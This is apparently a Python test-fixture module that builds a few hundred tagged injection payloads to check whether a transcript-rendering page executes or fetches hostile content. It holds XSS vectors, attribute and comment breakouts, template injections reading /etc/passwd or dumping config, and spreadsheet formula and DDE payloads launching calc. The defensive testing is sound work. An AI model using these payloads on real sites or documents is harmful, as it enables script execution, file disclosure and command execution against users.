"""Hostile passages: what somebody could say in a transcript to make a page run, fetch or show something."""

from __future__ import annotations

import itertools

_CALL = "window.__ran=1,alert(1)"
_FAR = "https://far.invalid/x"
_TAGS = (
    "<script>{call}</script>", "<ScRiPt >{call}</sCrIpT>", "<script src={far}></script>", "<img src=x onerror={call}>",
    "<img src={far}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<iframe src={far}></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>", "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>", "<input autofocus onfocus={call}>", "<a href='javascript:{call}'>x</a>",
    "<link rel=stylesheet href={far}>", "<meta http-equiv=refresh content='0;url={far}'>", "<base href={far}>",
    "<object data={far}></object>", "<embed src={far}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={call}>",
    "<form action={far}><button>x</button></form>", "<style>@import '{far}';</style>",
    "<marquee onstart={call}>x</marquee>",
    "<template><script>{call}</script></template>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
)
_AROUND = ("{0}", "'\">{0}", "--></title></textarea>{0}", "</script></style>{0}", "]]>{0}<![CDATA[", "`{0}`",
           "&lt;b&gt;{0}", "\u202e{0}\u202c")
_MARKUP = (
    "[x](javascript:{call})", "![x]({far})", "<javascript:{call}>", "{{raw}}`html <img src=x onerror={call}>`",
    "```{{raw}} html <script>{call}</script>```", "```{{include}} /etc/passwd", "{{include}}`/etc/passwd`",
    ".. raw:: html <script>{call}</script>", ":::{{figure}} {far}", "{{{{ config.items() }}}}",
    "{{% include '/etc/passwd' %}}",
    "```{{code-cell}} python import os", "`x <javascript:{call}>`_", "|x| .. |x| image:: {far}",
    "$\\href{{javascript:{call}}}{{x}}$",
    "$$\\unicode{{<img src=x onerror={call}>}}$$", "<!-- {call} --><script>{call}</script>",
    "=HYPERLINK(\"{far}\",\"x\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "%3Cscript%3E{call}%3C/script%3E",
    "\ufeff<script>{call}</script>",
    "[x]: {far} \"t\" ![x]",
)


def payloads(count: int = 200) -> list[str]:
    """The first `count` payloads; each has its own mark, so that it can be found on a page."""
    made = [text.format(call=_CALL, far=_FAR) for text in _MARKUP]
    made += [around.format(tag.format(call=_CALL, far=_FAR)) for around, tag in itertools.product(_AROUND, _TAGS)]
    spread = made if count >= len(made) else [made[index * len(made) // count] for index in range(count)]
    return [f"Mark{number:03d} said {text} and went on" for number, text in enumerate(spread[:count])]
